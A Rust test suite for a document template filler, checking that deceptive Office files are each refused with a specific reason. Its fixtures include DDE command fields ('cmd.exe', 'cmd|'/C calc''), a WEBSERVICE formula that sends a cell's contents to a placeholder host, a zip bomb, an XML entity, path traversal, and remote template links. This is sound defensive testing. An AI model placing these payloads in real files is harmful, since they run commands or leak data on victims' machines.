//! Files made to deceive: each is refused with a reason, and the program that asks stands.

use documents::filling::{Data, Value};
use documents::reading::Reason;

use crate::filler;
use crate::package::{docx, pack, paragraph, relation, relations, types, xlsx};

fn field(instruction: &str) -> String {
    format!("<w:p><w:fldSimple w:instr=\"{instruction}\"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>")
}

/// A field whose instruction is broken over two runs.
fn broken_field(one: &str, two: &str) -> String {
    let mark = |kind: &str| format!("<w:r><w:fldChar w:fldCharType=\"{kind}\"/></w:r>");
    let says = |text: &str| format!("<w:r><w:instrText>{text}</w:instrText></w:r>");
    format!("<w:p>{}{}{}{}{}</w:p>", mark("begin"), says(one), says(two), mark("separate"), mark("end"))
}

fn outside(kind: &str, target: &str) -> Vec<u8> {
    let rels = relations(&relation("r9", kind, target, " TargetMode=\"External\""));
    docx(&paragraph(&["{{姓名}}"]), &[("word/_rels/document.xml.rels", &rels)])
}

fn formula(text: &str) -> Vec<u8> {
    xlsx(&format!("<sheetData><row r=\"1\"><c r=\"A1\"><f>{text}</f></c></row></sheetData>"), &[], &[])
}

fn bomb() -> Vec<u8> {
    docx(&format!("<!--{}-->", " ".repeat(30 << 20)), &[])
}

/// A file of macros is a container: this head stands for it, its own is no text.
const CONTAINER: &str = "PK\u{3}\u{4}";

type Hostile = (&'static str, Vec<u8>, Reason);

fn cases() -> Vec<Hostile> {
    [files(), embedded(), fields()].concat()
}

/// What is wrong with the file as a whole.
fn files() -> Vec<Hostile> {
    let fine = paragraph(&["{{姓名}}"]);
    let macro_types = types("/word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml");
    let mut encrypted = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    let plain_compound = encrypted.clone();
    encrypted.extend("EncryptedPackage".encode_utf16().flat_map(u16::to_le_bytes));
    let mut cut = docx(&fine, &[]);
    cut.truncate(cut.len() - 40);
    let body = |body: &str| docx(body, &[]);
    let entity = "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x \"y\">]><w:settings>&x;</w:settings>";
    vec![
        ("nothing", Vec::new(), Reason::Empty),
        ("text", b"{{name}}".to_vec(), Reason::TemplateKind),
        ("a macro", docx(&fine, &[("word/vbaProject.bin", "x")]), Reason::Macro),
        ("a macro as offices write it", docx(&fine, &[("word/vbaProject.bin", CONTAINER)]), Reason::Macro),
        ("a docm with another name", docx(&fine, &[("[Content_Types].xml", &macro_types)]), Reason::Macro),
        ("a macro sheet", xlsx("", &[], &[("xl/macrosheets/sheet1.xml", "<a/>")]), Reason::Macro),
        ("a ribbon", docx(&fine, &[("customUI/customUI.xml", "<a/>")]), Reason::Macro),
        ("encrypted", encrypted, Reason::Password),
        ("an old .doc", plain_compound, Reason::TemplateKind),
        ("cut short", cut, Reason::ContainerDamaged),
        ("bytes before", [b"MZ".to_vec(), docx(&fine, &[])].concat(), Reason::TemplateKind),
        ("a bomb", bomb(), Reason::TooMuchUnpacked),
        ("an entity", docx(&fine, &[("word/settings.xml", entity)]), Reason::XmlDoctype),
        ("a deep tree", docx(&("<w:p>".repeat(3_000) + &"</w:p>".repeat(3_000)), &[]), Reason::XmlTooComplex),
        ("not closed", body("<w:p>"), Reason::XmlMalformed),
        ("another archive", docx(&fine, &[("word/media/x.zip", "x")]), Reason::Nested),
        ("a way out", pack(&[("../x", "x"), ("[Content_Types].xml", "<a/>")]), Reason::ContainerUnsafe),
    ]
}

/// What lies inside and is more than a text, or leads outside.
fn embedded() -> Vec<Hostile> {
    let fine = paragraph(&["{{姓名}}"]);
    let body = |body: &str| docx(body, &[]);
    vec![
        (
            "an embedded file",
            docx(&fine, &[("word/embeddings/oleObject1.bin", "x")]),
            Reason::TemplateEmbedded,
        ),
        ("a control", docx(&fine, &[("word/activeX/activeX1.xml", "<a/>")]), Reason::TemplateEmbedded),
        (
            "an OLE object",
            body("<w:p><w:r><w:object><o:OLEObject/></w:object></w:r></w:p>"),
            Reason::TemplateEmbedded,
        ),
        ("another document inside", body("<w:altChunk/>"), Reason::TemplateEmbedded),
        (
            "a mail merge",
            docx(&fine, &[("word/settings.xml", "<w:settings xmlns:w=\"w\"><w:mailMerge/></w:settings>")]),
            Reason::TemplateEmbedded,
        ),
        (
            "a template from the network",
            outside("attachedTemplate", "http://127.0.0.1/x.dotm"),
            Reason::TemplateEmbedded,
        ),
        ("a picture from the network", outside("image", "http://127.0.0.1/x.png"), Reason::TemplateOutside),
        ("a link to a share", outside("hyperlink", "file://host/share"), Reason::TemplateOutside),
        ("a link that is a script", outside("hyperlink", "javascript:alert(1)"), Reason::TemplateOutside),
    ]
}

/// What would be computed or fetched.
fn fields() -> Vec<Hostile> {
    let fine = paragraph(&["{{姓名}}"]);
    let body = |body: &str| docx(body, &[]);
    vec![
        ("INCLUDETEXT", body(&field(" INCLUDETEXT &quot;c:/x&quot;")), Reason::TemplateField),
        ("INCLUDEPICTURE", body(&field("includepicture x")), Reason::TemplateField),
        ("DDE over two runs", body(&broken_field("DDE", "AUTO c:\\\\cmd.exe")), Reason::TemplateField),
        (
            "a field never ended",
            body(&broken_field("DDE x", "").replace("separate", "begin").replace("\"end\"", "\"begin\"")),
            Reason::TemplateField,
        ),
        (
            "DDE in a header",
            docx(
                &fine,
                &[("word/header1.xml", &format!("<w:hdr xmlns:w=\"w\">{}</w:hdr>", field("DDE x y")))],
            ),
            Reason::TemplateField,
        ),
        ("WEBSERVICE", formula("WEBSERVICE(&quot;http://x/&quot;&amp;A1)"), Reason::TemplateFormula),
        ("DDE in a cell", formula("cmd|'/C calc'!A0"), Reason::TemplateFormula),
        ("another workbook", formula("[1]Sheet1!A1"), Reason::TemplateFormula),
        (
            "external links",
            xlsx("", &[], &[("xl/externalLinks/externalLink1.xml", "<a/>")]),
            Reason::TemplateEmbedded,
        ),
        ("a source of data", xlsx("", &[], &[("xl/connections.xml", "<a/>")]), Reason::TemplateEmbedded),
    ]
}

#[tokio::test]
async fn each_is_refused_with_its_reason() {
    let filler = filler();
    let mut wrong = Vec::new();
    for (name, file, reason) in cases() {
        match filler.check(&file).await {
            Err(refusal) if refusal.reason == reason => {}
            other => wrong.push(format!("{name}: {other:?} and not {reason:?}")),
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}");
    // The control: without the evil the same files are taken.
    assert!(filler.check(&docx(&paragraph(&["{{姓名}}"]), &[])).await.is_ok());
    assert!(filler.check(&outside("hyperlink", "https://www.moe.gov.cn/")).await.is_ok());
    assert!(
        filler
            .check(&docx(&(field("PAGE") + &broken_field("NUM", "PAGES \\* MERGEFORMAT")), &[]))
            .await
            .is_ok()
    );
    assert!(filler.check(&formula("SUM(B1:B9)")).await.is_ok());
}

/// A small template and a value that would make it grow without end.
#[tokio::test]
async fn a_file_that_would_grow_without_end_is_not_made() {
    let many = vec![crate::row(&[("x", Value::Text("长".repeat(10_000)))]); 2_000];
    let data = Data { rows: [("g".to_owned(), many)].into(), ..Data::default() };
    let file = docx(&paragraph(&["{{#g}}", "{{x}}", "{{/g}}"]), &[]);
    let refusal = filler().fill(&file, vec![data]).await.unwrap_err();
    assert!(matches!(refusal.reason, Reason::TemplateGrew | Reason::TooHeavy), "{refusal:?}");
}
